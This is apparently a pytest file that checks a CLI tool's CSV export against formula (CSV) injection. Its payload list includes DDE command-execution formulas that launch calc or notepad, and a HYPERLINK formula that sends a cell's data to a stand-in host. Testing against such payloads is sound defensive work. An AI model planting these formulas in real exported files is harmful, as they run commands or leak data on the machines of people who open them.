"""Hostile input, round 4, class "a CSV cell becomes a formula" (issue "Nothing lost, round 4").

OWASP's rule for CSV injection (owasp.org/www-community/attacks/CSV_Injection): a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run by a spreadsheet as a formula; prefixing
it with ``'`` makes it text. Every CSV k3desk writes (``calc --format csv``, ``advise --format csv``),
in both forms (RFC 4180 in English, ``;`` and decimal commas in pt-BR), applies it to every text cell
and keeps numbers numbers, and the scenario file the text came from stays byte-identical.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from k3desk.cli.csv_out import FORMULA_START, csv_text, safe_text

SHIPPED = Path(__file__).resolve().parent.parent / "resources" / "scenarios" / "k3-8x-b300.k3desk.json"
#: Payloads of OWASP's page and common variants.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-cmd",
    "+cmd|' /C notepad'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Error")',
    "@cmd",
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
]
LANGS = [("en", ","), ("pt_BR", ";")]


def _rows(text: str, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=sep))


def _live(cells) -> list[str]:
    """Cells a spreadsheet would run: a formula start, and not a plain negative number."""
    return [
        c
        for c in cells
        if c[:1] in FORMULA_START and not (c[:1] == "-" and c[1:].replace(".", "").replace(",", "").isdigit())
    ]


@pytest.mark.parametrize("lang,sep", LANGS)
def test_a_scenario_with_formula_names_never_makes_a_live_cell(cli, tmp_path, lang, sep):
    doc = json.loads(SHIPPED.read_text(encoding="utf-8"))
    doc["scenario"]["hardware"]["gpu"]["name"] = PAYLOADS[0]
    doc["scenario"]["name"] = "@SUM(1+1)"
    path = tmp_path / "inj.k3desk.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    before = path.read_bytes()
    for argv in (["advise", str(path), "--format", "csv", "--top", "50"], ["calc", str(path), "--format", "csv"]):
        code, out, err = cli(*argv, "--lang", lang)
        assert code == 0, err
        cells = [c for r in _rows(out, sep) for c in r]
        assert _live(cells) == []
        if argv[0] == "advise":
            assert "'" + PAYLOADS[0] in cells  # the name is kept, as text
    assert path.read_bytes() == before


@pytest.mark.parametrize("lang,sep", LANGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_text_in_both_forms(payload, lang, sep):
    header = ["gpu_name", "usd_per_month"]
    text = csv_text((header, [[payload, -12.5], ["plain", 3.0]]), lang)
    rows = _rows(text, sep)
    assert rows[1][0] == "'" + payload  # neutralised, the rest of the text as it was
    assert rows[1][1] == ("-12,5" if lang == "pt_BR" else "-12.5")  # a negative number stays a number
    assert rows[2] == ["plain", "3"]
    assert _live(c for r in rows for c in r) == []


@settings(max_examples=50)
@given(st.text(max_size=30))
def test_safe_text_only_ever_adds_one_quote(text):
    out = safe_text(text)
    assert out in (text, "'" + text)
    assert out[:1] not in FORMULA_START or out == text and text[:1] == "-" and text[1:].replace(".", "").isdigit()


def test_the_term_csv_keeps_negative_amounts_as_numbers(cli):
    """The resale at the end of an owned route's term is money back: a negative number, written as one."""
    code, out, _ = cli("calc", "--set", "hardware.ownership=own", "--format", "csv")
    assert code == 0
    cells = [c for r in _rows(out, ",")[1:] for c in r]
    negatives = [c for c in cells if c.startswith("-")]
    assert negatives and all(float(c) < 0 for c in negatives)
    assert not any(c.startswith("'") for c in cells)
